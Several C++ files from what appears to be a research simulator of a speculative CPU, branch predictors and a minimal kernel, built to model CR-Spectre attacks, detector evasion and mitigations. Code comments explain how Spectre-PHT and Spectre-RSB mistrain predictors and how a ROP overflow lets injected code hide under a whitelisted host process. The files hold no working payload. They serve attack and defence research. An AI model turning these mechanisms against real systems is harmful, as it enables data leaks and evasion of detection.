  return acquire_impl(base->config(), &base);
}

Machine& MachinePool::acquire_impl(
    const MachineConfig& config,
    const std::shared_ptr<const MachineBaseline>* base) {
  const std::uint64_t key = hash_machine_config(config);
  ++tick_;
  for (Entry& e : entries_) {
    if (e.key == key) {
      e.last_use = tick_;
      ++hits_;
      e.machine->restore(*e.snapshot);
      return *e.machine;
    }
  }
  ++misses_;
  if (entries_.size() >= capacity_ && !entries_.empty()) {
    std::size_t victim = 0;
    for (std::size_t i = 1; i < entries_.size(); ++i) {
      if (entries_[i].last_use < entries_[victim].last_use) victim = i;
    }
    entries_.erase(entries_.begin() +
                   static_cast<std::ptrdiff_t>(victim));
  }
  Entry e;
  e.key = key;
  e.last_use = tick_;
  if (base != nullptr) {
    ++forks_;
    e.machine = std::make_unique<Machine>(**base);
  } else {
    e.machine = std::make_unique<Machine>(config);
  }
  e.snapshot = std::make_unique<MachineSnapshot>(e.machine->snapshot());
  entries_.push_back(std::move(e));
  return *entries_.back().machine;
}

std::uint64_t hash_machine_config(const MachineConfig& config) {
  HashBuilder h;
  h.u64(config.memory_size);
  const auto cache = [&](const CacheConfig& c) {
    h.u32(c.size_bytes).u32(c.line_size).u32(c.ways).u32(c.partition_ways);
  };
  cache(config.hierarchy.l1d);
  cache(config.hierarchy.l1i);
  cache(config.hierarchy.l2);
  const HierarchyTimings& t = config.hierarchy.timings;
  h.u32(t.l1_hit).u32(t.l2_hit).u32(t.memory);
  h.u32(t.fetch_l1_hit).u32(t.fetch_l1_miss).u32(t.flush_cost);
  h.u32(config.predictor.pht_entries)
      .u32(config.predictor.btb_entries)
      .u32(config.predictor.rsb_entries);
  const CpuConfig& c = config.cpu;
  h.u32(c.max_spec_window)
      .u32(c.rob_window)
      .u32(c.mispredict_penalty)
      .u32(c.fence_cost)
      .u32(c.syscall_cost)
      .u32(c.mul_latency)
      .u32(c.div_latency)
      .b(c.decode_cache)
      .b(c.exec_engine == ExecEngine::kBlocks)
      .b(c.honor_fence_hints)
      .b(c.slh)
      .b(c.no_indirect_speculation);
  return h.digest();
}

std::uint64_t hash_kernel_config(const KernelConfig& config) {
  HashBuilder h;
  h.u64(config.stack_size)
      .b(config.aslr)
      .u64(config.aslr_range)
      .b(config.aslr_stack)
      .u64(config.aslr_stack_range)
      .b(config.heap_guard)
      .u64(config.heap_base)
      .u64(config.heap_size)
      .u64(config.seed)
      .i64(config.max_execve_depth)
      .b(config.flush_predictors_on_switch)
      .b(config.flush_l1_on_switch)
      .b(config.ward_split);
  return h.digest();
}

std::uint64_t hash_program(const Program& program) {
  HashBuilder h;
  h.str(program.name).u64(program.link_base).u64(program.entry);
  h.u64(program.segments.size());
  for (const Segment& s : program.segments) {
    h.str(s.name).u64(s.addr).u32(static_cast<std::uint32_t>(s.perm));
    h.u64(s.bytes.size()).bytes(s.bytes.data(), s.bytes.size());
  }
  h.u64(program.relocations.size());
  for (const Relocation& r : program.relocations) {
    h.u64(r.segment).u64(r.offset).u32(static_cast<std::uint32_t>(r.kind));
  }
  h.u64(program.symbols.size());
  for (const auto& [name, addr] : program.symbols) {
    h.str(name).u64(addr);
  }
  return h.digest();
}

}  // namespace crs::sim
