// Branch prediction structures: the micro-architectural state Spectre
// mistrains.
//
// - Pattern history table (PHT) of 2-bit saturating counters drives
//   conditional-branch prediction — Spectre-PHT (v1) trains the bounds
//   check "in bounds" and then supplies an out-of-bounds index.
// - Branch target buffer (BTB) predicts indirect-jump targets.
// - Return stack buffer (RSB) predicts RET targets — Spectre-RSB exploits
//   the mismatch between the RSB and an overwritten on-stack return
//   address, which is exactly the state the ROP overflow creates.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "obs/obs.hpp"

namespace crs::sim {

struct PredictorConfig {
  std::uint32_t pht_entries = 4096;  ///< power of two
  std::uint32_t btb_entries = 512;   ///< power of two
  std::uint32_t rsb_entries = 16;
};

/// 2-bit saturating counter PHT, indexed by (pc >> 3) & mask.
class PatternHistoryTable {
 public:
  explicit PatternHistoryTable(std::uint32_t entries);

  bool predict_taken(std::uint64_t pc) const;
  void update(std::uint64_t pc, bool taken);
  /// Counter value (0..3) for tests.
  std::uint8_t counter(std::uint64_t pc) const;
  std::uint64_t updates() const { return updates_; }

  /// Context-switch hygiene: resets every counter to the weakly-not-taken
  /// init state. Returns the number of counters that held trained state.
  std::uint64_t flush();

 private:
  std::uint64_t index(std::uint64_t pc) const;
  std::vector<std::uint8_t> counters_;  // init 1 = weakly not-taken
  std::uint64_t updates_ = 0;
};

/// Direct-mapped BTB: pc -> last observed target.
class BranchTargetBuffer {
 public:
  explicit BranchTargetBuffer(std::uint32_t entries);

  std::optional<std::uint64_t> predict(std::uint64_t pc) const;
  void update(std::uint64_t pc, std::uint64_t target);
  std::uint64_t updates() const { return updates_; }

  /// Invalidates every entry; returns how many were valid.
  std::uint64_t flush();

 private:
  std::uint64_t updates_ = 0;
  struct Entry {
    bool valid = false;
    std::uint64_t pc = 0;
    std::uint64_t target = 0;
  };
  std::uint64_t index(std::uint64_t pc) const;
  std::vector<Entry> entries_;
};

/// Circular return stack buffer. Overflow wraps (overwriting the oldest
/// entry); underflow returns nullopt.
class ReturnStackBuffer {
 public:
  explicit ReturnStackBuffer(std::uint32_t entries);

  void push(std::uint64_t return_address);
  std::optional<std::uint64_t> pop();
  std::size_t depth() const { return depth_; }
  void clear();

  std::uint64_t pushes() const { return pushes_; }
  std::uint64_t pops() const { return pops_; }
  /// Pops on an empty RSB — the misprediction window Spectre-RSB abuses.
  std::uint64_t underflows() const { return underflows_; }
  /// Pushes that overwrote the oldest live entry.
  std::uint64_t wraps() const { return wraps_; }

 private:
  std::vector<std::uint64_t> ring_;
  std::size_t top_ = 0;    // next push slot
  std::size_t depth_ = 0;  // live entries, <= ring_.size()
  std::uint64_t pushes_ = 0;
  std::uint64_t pops_ = 0;
  std::uint64_t underflows_ = 0;
  std::uint64_t wraps_ = 0;
};

/// Facade bundling the three structures, as the CPU sees them.
class BranchPredictor {
 public:
  explicit BranchPredictor(const PredictorConfig& config = {});

  PatternHistoryTable& pht() { return pht_; }
  BranchTargetBuffer& btb() { return btb_; }
  ReturnStackBuffer& rsb() { return rsb_; }
  const PatternHistoryTable& pht() const { return pht_; }
  const BranchTargetBuffer& btb() const { return btb_; }
  const ReturnStackBuffer& rsb() const { return rsb_; }

  /// Flushes PHT + BTB and clears the RSB (kernel-entry hygiene, as the
  /// Ward kernel does on every crossing). Returns the total number of
  /// trained entries dropped across the three structures.
  std::uint64_t flush_all();

  /// Adds the structures' update/traffic counters into the MetricsRegistry
  /// under `<prefix>.pht.*` / `.btb.*` / `.rsb.*` (no-op when disabled).
  void publish_metrics(const std::string& prefix) const;

 private:
  PatternHistoryTable pht_;
  BranchTargetBuffer btb_;
  ReturnStackBuffer rsb_;
};

}  // namespace crs::sim
