// Branch prediction structures: the micro-architectural state Spectre
// mistrains.
//
// - Pattern history table (PHT) of 2-bit saturating counters drives
//   conditional-branch prediction — Spectre-PHT (v1) trains the bounds
//   check "in bounds" and then supplies an out-of-bounds index.
// - Branch target buffer (BTB) predicts indirect-jump targets.
// - Return stack buffer (RSB) predicts RET targets — Spectre-RSB exploits
//   the mismatch between the RSB and an overwritten on-stack return
//   address, which is exactly the state the ROP overflow creates.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

namespace crs::sim {

struct PredictorConfig {
  std::uint32_t pht_entries = 4096;  ///< power of two
  std::uint32_t btb_entries = 512;   ///< power of two
  std::uint32_t rsb_entries = 16;
};

/// 2-bit saturating counter PHT, indexed by (pc >> 3) & mask.
class PatternHistoryTable {
 public:
  explicit PatternHistoryTable(std::uint32_t entries);

  bool predict_taken(std::uint64_t pc) const;
  void update(std::uint64_t pc, bool taken);
  /// Counter value (0..3) for tests.
  std::uint8_t counter(std::uint64_t pc) const;

 private:
  std::uint64_t index(std::uint64_t pc) const;
  std::vector<std::uint8_t> counters_;  // init 1 = weakly not-taken
};

/// Direct-mapped BTB: pc -> last observed target.
class BranchTargetBuffer {
 public:
  explicit BranchTargetBuffer(std::uint32_t entries);

  std::optional<std::uint64_t> predict(std::uint64_t pc) const;
  void update(std::uint64_t pc, std::uint64_t target);

 private:
  struct Entry {
    bool valid = false;
    std::uint64_t pc = 0;
    std::uint64_t target = 0;
  };
  std::uint64_t index(std::uint64_t pc) const;
  std::vector<Entry> entries_;
};

/// Circular return stack buffer. Overflow wraps (overwriting the oldest
/// entry); underflow returns nullopt.
class ReturnStackBuffer {
 public:
  explicit ReturnStackBuffer(std::uint32_t entries);

  void push(std::uint64_t return_address);
  std::optional<std::uint64_t> pop();
  std::size_t depth() const { return depth_; }
  void clear();

 private:
  std::vector<std::uint64_t> ring_;
  std::size_t top_ = 0;    // next push slot
  std::size_t depth_ = 0;  // live entries, <= ring_.size()
};

/// Facade bundling the three structures, as the CPU sees them.
class BranchPredictor {
 public:
  explicit BranchPredictor(const PredictorConfig& config = {});

  PatternHistoryTable& pht() { return pht_; }
  BranchTargetBuffer& btb() { return btb_; }
  ReturnStackBuffer& rsb() { return rsb_; }
  const PatternHistoryTable& pht() const { return pht_; }
  const BranchTargetBuffer& btb() const { return btb_; }
  const ReturnStackBuffer& rsb() const { return rsb_; }

 private:
  PatternHistoryTable pht_;
  BranchTargetBuffer btb_;
  ReturnStackBuffer rsb_;
};

}  // namespace crs::sim
