// Minimal kernel: process loading, argv marshalling, and syscalls.
//
// Models just enough OS for the paper's threat model:
//  - A loader that maps program segments with W^X permissions (DEP) and,
//    optionally, at an ASLR-randomised base using the image's relocations.
//  - argv passed on the stack; the *byte length* of each argument is
//    attacker-controlled, which is what the host's vulnerable
//    `read_input` copies without bounds checking (paper Algorithm 1).
//  - SYS_EXECVE with spawn-in-process semantics: the named binary is mapped
//    into the SAME address space and runs on the same core (shared caches,
//    predictor and PMU); when it exits the host continues behind the
//    syscall site. This matches the paper's setting — the attack executes
//    "under the umbrella of the host", the HID attributes all events to the
//    whitelisted host process, and the host completes its work so the IPC
//    overhead comparison of Table I is meaningful.
//  - A random per-process stack canary value published at the `__canary`
//    symbol (when the program defines one) and SYS_ABORT, which the
//    canary-checking epilogue uses to kill the process on corruption.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "sim/cpu.hpp"
#include "sim/program.hpp"
#include "support/rng.hpp"

namespace crs::sim {

/// Syscall numbers (in r0; args in r1..r3; result in r0).
enum Syscall : std::uint64_t {
  kSysExit = 0,       ///< r1 = exit code
  kSysWrite = 1,      ///< r1 = fd (ignored), r2 = addr, r3 = len
  kSysExecve = 2,     ///< r1 = address of NUL-terminated path string
  kSysGetRandom = 3,  ///< r1 = addr, r2 = len
  kSysAbort = 4,      ///< canary-check failure: fault + kill
  kSysHeapAlloc = 5,  ///< r1 = size → r0 = chunk address (0 on failure)
  kSysHeapFree = 6,   ///< r1 = chunk address → r0 = 0 (-1 on unknown chunk)
};

struct MachineConfig {
  std::uint64_t memory_size = 16 * 1024 * 1024;
  HierarchyConfig hierarchy;
  PredictorConfig predictor;
  CpuConfig cpu;
};

class MachineSnapshot;
class MachineBaseline;

/// Bundles the hardware: memory, caches, predictor, PMU and core.
class Machine {
 public:
  explicit Machine(const MachineConfig& config = {});

  /// Copy-on-write fork: replicates `base` (a frozen machine from
  /// Machine::freeze()) in O(touched pages) — memory pages alias the
  /// baseline's shared image until first write, micro-architectural state
  /// is copied. By the freeze/fork contract the fork is indistinguishable
  /// from the machine `base` was frozen from. Defined in sim/snapshot.cpp.
  explicit Machine(const MachineBaseline& base);

  /// Freezes this machine's full state into an immutable, refcounted
  /// replication baseline any number of forks (across threads) can share.
  /// Defined in sim/snapshot.cpp; include sim/snapshot.hpp for the
  /// MachineBaseline definition.
  std::shared_ptr<const MachineBaseline> freeze() const;

  /// Captures the full architectural + micro-architectural state (memory
  /// pages with permissions and content versions, caches incl. partition
  /// state and stats, PHT/BTB/RSB, PMU, CPU registers and counters) for
  /// later rollback via restore(). Defined in sim/snapshot.cpp; include
  /// sim/snapshot.hpp for the MachineSnapshot definition.
  MachineSnapshot snapshot() const;

  /// Rolls this machine back to `snap` (which must have been captured from
  /// this machine) using dirty-page tracking: only pages whose content
  /// version moved since the snapshot are rewritten, and their versions are
  /// bumped — never rolled back — so stale decode-cache slots cannot
  /// survive. After a restore the machine is indistinguishable from one
  /// freshly constructed and driven to the snapshot point.
  void restore(MachineSnapshot& snap);

  Memory& memory() { return memory_; }
  const Memory& memory() const { return memory_; }
  MemoryHierarchy& hierarchy() { return hierarchy_; }
  BranchPredictor& predictor() { return predictor_; }
  Pmu& pmu() { return pmu_; }
  Cpu& cpu() { return cpu_; }
  const Cpu& cpu() const { return cpu_; }
  const MachineConfig& config() const { return config_; }

  const MemoryHierarchy& hierarchy() const { return hierarchy_; }
  const BranchPredictor& predictor() const { return predictor_; }
  const Pmu& pmu() const { return pmu_; }

  /// Folds this machine's cumulative observability state — every PMU event,
  /// per-level cache stats, predictor traffic and speculation episodes —
  /// into the process-wide MetricsRegistry under `<prefix>.*`. Call exactly
  /// once per machine, after its run completes (counters are cumulative).
  /// No-op when CRS_OBS_ENABLED is 0.
  void publish_metrics(const std::string& prefix) const;

 private:
  MachineConfig config_;
  Memory memory_;
  MemoryHierarchy hierarchy_;
  BranchPredictor predictor_;
  Pmu pmu_;
  Cpu cpu_;
};

struct KernelConfig {
  /// Stack region size for the initial process and for each execve'd image.
  std::uint64_t stack_size = 256 * 1024;
  /// Randomise image bases (page-aligned) within [0, aslr_range).
  bool aslr = false;
  std::uint64_t aslr_range = 4 * 1024 * 1024;
  /// Randomise the main/injected stack region too: the whole stack carve
  /// shifts down by a page-aligned delta in [0, aslr_stack_range). Kept
  /// separate from `aslr` so existing image-only ASLR scenarios replay the
  /// exact RNG stream they always had.
  bool aslr_stack = false;
  std::uint64_t aslr_stack_range = 1 * 1024 * 1024;
  /// Guarded heap: SYS_HEAP_ALLOC carves pattern-filled redzones around
  /// every chunk and SYS_HEAP_FREE verifies them, faulting the process on a
  /// torn redzone (heap-overflow catch). Off: plain bump/free-list heap.
  bool heap_guard = false;
  /// Heap region placement — above the 4 MiB ASLR image window, below the
  /// stacks carved from the top of memory.
  std::uint64_t heap_base = 8 * 1024 * 1024;
  std::uint64_t heap_size = 1 * 1024 * 1024;
  std::uint64_t seed = 0xC0FFEE;
  /// Maximum nested execve depth (the CR-Spectre chain needs 1).
  int max_execve_depth = 2;

  // --- context-switch hygiene mitigations (src/mitigate) -----------------
  /// Flush PHT/BTB/RSB on every kernel entry (syscall/execve), so predictor
  /// state trained by one protection domain cannot steer another.
  bool flush_predictors_on_switch = false;
  /// Invalidate both L1 caches on kernel entry (Ward-style L1 flush); the
  /// L2 stays warm, as on hardware that only scrubs the closest level.
  bool flush_l1_on_switch = false;
  /// Ward split: while an execve'd (injected) image runs, the host's
  /// non-executable pages (its data, including the secret) are unmapped.
  /// Architectural accesses fault; transient ones squash without a fill —
  /// the cross-image leak CR-Spectre needs is cut at the page table.
  bool ward_split = false;
};

/// Result of mapping one binary.
struct LoadInfo {
  std::string path;
  std::uint64_t base_delta = 0;  ///< load base − link base
  std::uint64_t entry = 0;       ///< resolved entry address
  std::uint64_t lo = 0;          ///< lowest mapped address
  std::uint64_t hi = 0;          ///< highest mapped address (exclusive)
};

/// What the kernel-side mitigations did. Like CpuMitigationStats these are
/// plain unconditional counters behind off-by-default flags, so the defense
/// matrix reads ground truth in any observability build flavour.
struct KernelMitigationStats {
  std::uint64_t predictor_flushes = 0;  ///< kernel entries that scrubbed
  std::uint64_t predictor_entries_flushed = 0;  ///< trained entries dropped
  std::uint64_t l1_flushes = 0;
  std::uint64_t l1_lines_flushed = 0;
  std::uint64_t ward_lockouts = 0;     ///< execves that unmapped host data
  std::uint64_t ward_pages_locked = 0;
};

/// What the hardening layer (src/harden) did. Same discipline as
/// KernelMitigationStats: plain unconditional counters behind off-by-default
/// config flags; harden::summarize masks them by the active HardenConfig.
struct KernelHardenStats {
  std::uint64_t images_randomized = 0;  ///< map_image calls that drew a base
  std::uint64_t stacks_randomized = 0;  ///< start() stack-base draws
  std::uint64_t canaries_planted = 0;   ///< __canary publications
  std::uint64_t canary_aborts = 0;      ///< SYS_ABORT canary kills
  std::uint64_t heap_allocs = 0;
  std::uint64_t heap_frees = 0;
  std::uint64_t redzone_bytes_checked = 0;
  std::uint64_t redzone_violations = 0;  ///< torn redzones caught on free
};

class Kernel {
 public:
  /// Observes every image (re)load. Runs after the bytes and permissions
  /// are in place — where the mitigation layer plants fence hints and arms
  /// cache partitioning. `first_image` is true only for the binary mapped
  /// by start(); re-execve image rewrites re-fire the hook with false so
  /// in-place code edits survive the rewrite.
  using LoadHook = std::function<void(Machine&, const LoadInfo&, bool)>;

  Kernel(Machine& machine, const KernelConfig& config = {});

  /// Registers a binary under a filesystem-like path for execve lookup.
  void register_binary(const std::string& path, Program program);
  bool has_binary(const std::string& path) const;

  /// Installs the load hook (replacing any previous one). Images already
  /// mapped are not revisited; install before start().
  void set_load_hook(LoadHook hook) { load_hook_ = std::move(hook); }

  /// Loads `path`, marshals argv, installs the syscall handler and resets
  /// the CPU at the program entry. Args are raw byte strings; their
  /// addresses land in an argv array and their lengths in a parallel array
  /// (r1 = argc, r2 = argv pointers, r3 = arg lengths).
  void start(const std::string& path,
             std::span<const std::vector<std::uint8_t>> args = {});

  /// Convenience: args as strings.
  void start_with_strings(const std::string& path,
                          const std::vector<std::string>& args);

  /// Loads `victim_path` exactly as start(victim_path, args) would — the
  /// RNG draw order (stack delta, image delta, canary value) is identical,
  /// so the victim's randomized layout matches the run the attacker is
  /// probing — then maps `probe_path` on top and enters IT instead, on the
  /// victim's stack. Models a speculative-probing attacker (BlindSide-style)
  /// who hijacked the hardened process's entry and scans its layout through
  /// the transient channel before committing to an injection.
  void start_probe(const std::string& victim_path,
                   const std::string& probe_path,
                   std::span<const std::vector<std::uint8_t>> args = {});

  StopReason run(std::uint64_t max_instructions);
  StopReason run_until_cycle(std::uint64_t cycle_target,
                             std::uint64_t max_instructions);

  /// Re-arms this kernel for a fresh attempt on a machine that was just
  /// rolled back via Machine::restore(): the RNG restarts exactly where a
  /// new Kernel(machine, {.seed = seed}) would, the mitigation counters
  /// zero, and stale ward locks are forgotten (the restore already
  /// reinstated the permissions they recorded). The binary registry and
  /// the load hook survive — registering and arming once per session is
  /// the point of the fast-reset path. Follow with start().
  void reset_for_attempt(std::uint64_t seed);

  /// Byte stream written via SYS_WRITE since start().
  const std::vector<std::uint8_t>& output() const { return output_; }
  std::string output_string() const;

  std::int64_t exit_code() const { return exit_code_; }

  /// Number of successful SYS_EXECVE spawns since start().
  int execve_count() const { return execve_count_; }

  /// True while an execve'd (injected) image is running — ground truth for
  /// labelling profile windows; never visible to the detector.
  bool in_injected_binary() const { return !saved_contexts_.empty(); }

  /// Load info of the binary started via start().
  const LoadInfo& main_image() const;

  /// Resolved (post-ASLR) address of `label` in the image loaded from
  /// `path` (must already be mapped).
  std::uint64_t resolved_symbol(const std::string& path,
                                const std::string& label) const;

  Machine& machine() { return machine_; }
  const KernelConfig& config() const { return config_; }

  /// Activity of the armed kernel-side mitigations (all zero by default).
  const KernelMitigationStats& mitigation_stats() const { return kstats_; }

  /// Activity of the hardening layer since the last reset/attempt.
  const KernelHardenStats& harden_stats() const { return hstats_; }

 private:
  struct SavedContext {
    std::uint64_t regs[isa::kNumRegisters];
    std::uint64_t pc;
  };

  /// One page range hidden by the Ward split, with the permission to
  /// restore when the injected image exits.
  struct WardLock {
    std::uint64_t addr;
    std::uint64_t len;
    Perm perm;
  };

  /// One guarded-heap chunk. `addr` is the user pointer (past the leading
  /// redzone when heap_guard is on); dead chunks form the free list.
  struct HeapChunk {
    std::uint64_t addr = 0;
    std::uint64_t size = 0;
    bool live = false;
  };

  LoadInfo map_image(const std::string& path, const Program& program);
  void start_impl(const std::string& path,
                  std::span<const std::vector<std::uint8_t>> args,
                  const std::string* probe_path);
  SyscallOutcome handle_syscall(Cpu& cpu);
  SyscallOutcome do_execve(Cpu& cpu);
  SyscallOutcome do_heap_alloc(Cpu& cpu);
  SyscallOutcome do_heap_free(Cpu& cpu);
  void paint_redzones(const HeapChunk& chunk);
  bool check_redzones(const HeapChunk& chunk);
  void switch_hygiene(Cpu& cpu);
  void ward_lock_host();
  void ward_unlock_host();

  Machine& machine_;
  KernelConfig config_;
  Rng rng_;

  std::map<std::string, Program> registry_;
  std::map<std::string, LoadInfo> loaded_;  // path → where it landed
  std::vector<LoadInfo> load_order_;

  std::uint64_t next_stack_top_ = 0;  // stacks carved from the top of memory
  std::map<std::string, std::uint64_t> injected_stack_tops_;
  std::vector<SavedContext> saved_contexts_;
  std::vector<std::uint8_t> output_;
  std::int64_t exit_code_ = 0;
  int execve_count_ = 0;

  std::uint64_t heap_bump_ = 0;  // next fresh carve inside the heap region
  std::vector<HeapChunk> heap_chunks_;

  LoadHook load_hook_;
  KernelMitigationStats kstats_;
  KernelHardenStats hstats_;
  std::vector<WardLock> ward_locks_;
};

}  // namespace crs::sim
