#include "sim/pmu.hpp"

#include "support/error.hpp"

namespace crs::sim {

PmuSnapshot delta(const PmuSnapshot& before, const PmuSnapshot& after) {
  PmuSnapshot out{};
  for (std::size_t i = 0; i < kEventCount; ++i) {
    CRS_ENSURE(after[i] >= before[i], "PMU counters must be monotonic");
    out[i] = after[i] - before[i];
  }
  return out;
}

std::string_view event_name(Event e) {
  static constexpr std::string_view kNames[] = {
      "cycles",
      "instructions",
      "spec_instructions",
      "loads",
      "stores",
      "l1d_accesses",
      "l1d_misses",
      "l1i_accesses",
      "l1i_misses",
      "l2_accesses",
      "l2_misses",
      "branches",
      "branch_mispredicts",
      "taken_branches",
      "indirect_jumps",
      "calls",
      "returns",
      "rsb_mispredicts",
      "spec_loads",
      "clflushes",
      "mfences",
      "syscalls",
      "stack_ops",
      "alu_ops",
  };
  static_assert(std::size(kNames) == kEventCount);
  const auto idx = static_cast<std::size_t>(e);
  CRS_ENSURE(idx < kEventCount, "event out of range");
  return kNames[idx];
}

std::uint64_t derived_total_cache_misses(const PmuSnapshot& s) {
  return s[static_cast<std::size_t>(Event::kL1dMisses)] +
         s[static_cast<std::size_t>(Event::kL1iMisses)] +
         s[static_cast<std::size_t>(Event::kL2Misses)];
}

std::uint64_t derived_total_cache_accesses(const PmuSnapshot& s) {
  return s[static_cast<std::size_t>(Event::kL1dAccesses)] +
         s[static_cast<std::size_t>(Event::kL1iAccesses)] +
         s[static_cast<std::size_t>(Event::kL2Accesses)];
}

}  // namespace crs::sim
