#include "sim/block_cache.hpp"

#include <algorithm>

namespace crs::sim {

using isa::OpClass;
using isa::Opcode;

namespace {

/// Classes executed inline by the block engine's body handlers.
bool body_class(OpClass cls) {
  switch (cls) {
    case OpClass::kNop:
    case OpClass::kAlu:
    case OpClass::kLoad:
    case OpClass::kStore:
    case OpClass::kPush:
    case OpClass::kPop:
    case OpClass::kRdCycle:
      return true;
    default:
      return false;
  }
}

/// Control-flow classes that terminate a block but execute inside it, via
/// the interpreter's own exec_* helpers.
bool tail_class(OpClass cls) {
  switch (cls) {
    case OpClass::kCondBranch:
    case OpClass::kJump:
    case OpClass::kIndirectJump:
    case OpClass::kCall:
    case OpClass::kIndirectCall:
    case OpClass::kRet:
      return true;
    default:
      return false;
  }
}

}  // namespace

BlockCache::BlockCache(const Memory& memory, std::uint32_t mul_latency,
                       std::uint32_t div_latency)
    : memory_(memory),
      mul_latency_(mul_latency),
      div_latency_(div_latency),
      pages_(memory.page_count()) {}

TranslatedBlock* BlockCache::acquire(std::uint64_t pc) {
  const std::uint64_t page = pc / Memory::kPageSize;
  if (page >= pages_.size()) return nullptr;
  auto& entry = pages_[page];
  if (entry == nullptr) {
    entry = std::make_unique<PageBlocks>();
    entry->slots.resize(kSlotsPerPage);
  }
  const auto slot = static_cast<std::uint16_t>(
      (pc & (Memory::kPageSize - 1)) / isa::kInstructionSize);
  TranslatedBlock* block = entry->slots[slot].get();
  if (block != nullptr) {
    bool fresh = true;
    for (std::uint32_t g = 0; g < block->guard_count; ++g) {
      fresh &= memory_.page_version(block->guards[g].page) ==
               block->guards[g].version;
    }
    if (fresh) {
      ++stats_.hits;
      return block;
    }
    ++stats_.retranslations;
    if (!translate_into(*block, pc, slot)) {
      entry->slots[slot].reset();
      return nullptr;
    }
    return block;
  }
  auto fresh_block = std::make_unique<TranslatedBlock>();
  if (!translate_into(*fresh_block, pc, slot)) return nullptr;
  ++stats_.translations;
  entry->resident.push_back(slot);
  entry->slots[slot] = std::move(fresh_block);
  return entry->slots[slot].get();
}

bool BlockCache::translate_into(TranslatedBlock& block, std::uint64_t pc,
                                std::uint16_t slot) {
  if (!memory_.check(pc, isa::kInstructionSize, AccessKind::kExecute)) {
    return false;
  }
  block.entry_pc = pc;
  block.body.clear();
  block.dispatch_ready = false;  // handler slots die with the old body
  block.has_tail = false;
  const std::uint64_t entry_page = pc / Memory::kPageSize;
  block.first_page = entry_page;
  block.last_page = entry_page;
  block.guards[0] = {entry_page, memory_.page_version(entry_page)};
  block.guard_count = 1;

  std::uint64_t cur = pc;
  while (true) {
    const std::uint64_t cur_page = cur / Memory::kPageSize;
    if (cur_page != block.last_page) {
      // Crossing into the next page: guard it too, or stop at the cap.
      // Instructions are 8-byte aligned and sized, so they never straddle
      // pages themselves.
      if (block.guard_count == kMaxBlockPages) break;
      if (!memory_.check(cur, isa::kInstructionSize, AccessKind::kExecute)) {
        break;
      }
      block.guards[block.guard_count++] = {cur_page,
                                           memory_.page_version(cur_page)};
      block.last_page = cur_page;
    }
    const DecodedSlot decoded = decode_slot(memory_, cur);
    if (decoded.state != DecodedSlot::kValid) break;
    if (tail_class(decoded.cls)) {
      block.tail = decoded;
      block.has_tail = true;
      break;
    }
    if (!body_class(decoded.cls)) break;  // serialising: step() handles it
    if (block.body.size() >= kMaxBodyOps) break;
    MicroOp op;
    op.op = decoded.instr.op;
    op.rd = decoded.instr.rd;
    op.rs1 = decoded.instr.rs1;
    op.rs2 = decoded.instr.rs2;
    op.imm = static_cast<std::int64_t>(decoded.instr.imm);
    if (op.op == Opcode::kMul || op.op == Opcode::kMulImm) {
      op.latency = mul_latency_;
    } else if (op.op == Opcode::kDivu || op.op == Opcode::kRemu) {
      op.latency = div_latency_;
    }
    block.body.push_back(op);
    cur += isa::kInstructionSize;
  }

  if (block.guard_count == kMaxBlockPages) {
    // Register the straddler with its second page so invalidate() of that
    // page kills this block too.
    auto& sibling = pages_[block.last_page];
    if (sibling == nullptr) {
      sibling = std::make_unique<PageBlocks>();
      sibling->slots.resize(kSlotsPerPage);
    }
    const std::pair<std::uint64_t, std::uint16_t> ref{entry_page, slot};
    if (std::find(sibling->incoming.begin(), sibling->incoming.end(), ref) ==
        sibling->incoming.end()) {
      sibling->incoming.push_back(ref);
    }
  }
  return true;
}

void BlockCache::invalidate(std::uint64_t addr) {
  const std::uint64_t page = addr / Memory::kPageSize;
  if (page >= pages_.size() || pages_[page] == nullptr) return;
  PageBlocks& entry = *pages_[page];
  for (const std::uint16_t slot : entry.resident) entry.slots[slot].reset();
  entry.resident.clear();
  for (const auto& [from_page, from_slot] : entry.incoming) {
    if (from_page < pages_.size() && pages_[from_page] != nullptr) {
      pages_[from_page]->slots[from_slot].reset();
    }
  }
  entry.incoming.clear();
  ++stats_.invalidations;
}

}  // namespace crs::sim
