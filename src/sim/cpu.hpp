// Speculative CPU model.
//
// The model is architectural execution plus the three micro-architectural
// behaviours Spectre needs, made explicit:
//
// 1. *Scoreboarded loads*: each register carries a "ready at cycle" time.
//    A load's destination becomes ready only after the cache latency, so a
//    conditional branch whose operand was just loaded from a flushed line
//    resolves late.
// 2. *Bounded wrong-path execution*: when a branch is mispredicted and its
//    resolution is pending, the CPU executes the predicted path for up to
//    `min(resolve delay, max_spec_window)` instructions against a register
//    checkpoint and a store buffer. On resolution everything architectural
//    is rolled back — but data-cache fills performed by wrong-path loads
//    persist. That retained state is the Spectre leak.
// 3. *Predictor-driven redirects* for all three structures: PHT
//    (conditional branches → Spectre-PHT/v1), BTB (indirect jumps), and RSB
//    (returns → Spectre-RSB; also what fires when a ROP payload overwrites
//    a saved return address).
//
// Timing is approximate (scalar, one instruction per cycle plus stalls) but
// internally consistent, which is what the IPC overhead analysis (paper
// Table I) and the HPC-based detector need.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <optional>
#include <string_view>
#include <vector>

#include "isa/isa.hpp"
#include "sim/branch_predictor.hpp"
#include "sim/cache.hpp"
#include "sim/decode_cache.hpp"
#include "sim/memory.hpp"
#include "sim/pmu.hpp"

namespace crs::sim {

class BlockCache;
class BlockExecutor;

/// How the CPU executes the architectural instruction stream. Both engines
/// are bit-identical (registers, memory, PMU, cycles, faults, speculation
/// episodes); blocks is a pure simulator-speed optimisation.
enum class ExecEngine : std::uint8_t {
  kInterp = 0,  ///< per-instruction fetch/classify/dispatch (Cpu::step)
  kBlocks = 1,  ///< threaded-code superblocks (sim/block_exec)
};

/// Process-wide default for `CpuConfig::exec_engine`, the value every
/// default-constructed config picks up. Wired to the tools' `--exec` flag
/// (beats the `CRS_EXEC=interp|blocks` env var); set it before building
/// machines. Mirrors `crs::set_fast_reset_enabled`.
ExecEngine default_exec_engine();
void set_default_exec_engine(ExecEngine engine);

/// "interp" / "blocks" — the spelling used by flags and bench records.
const char* exec_engine_name(ExecEngine engine);

/// Parses the `--exec` flag spelling; nullopt when unknown.
std::optional<ExecEngine> parse_exec_engine(std::string_view name);

struct CpuConfig {
  /// Maximum wrong-path instructions per misprediction episode (ROB-ish).
  std::uint32_t max_spec_window = 64;
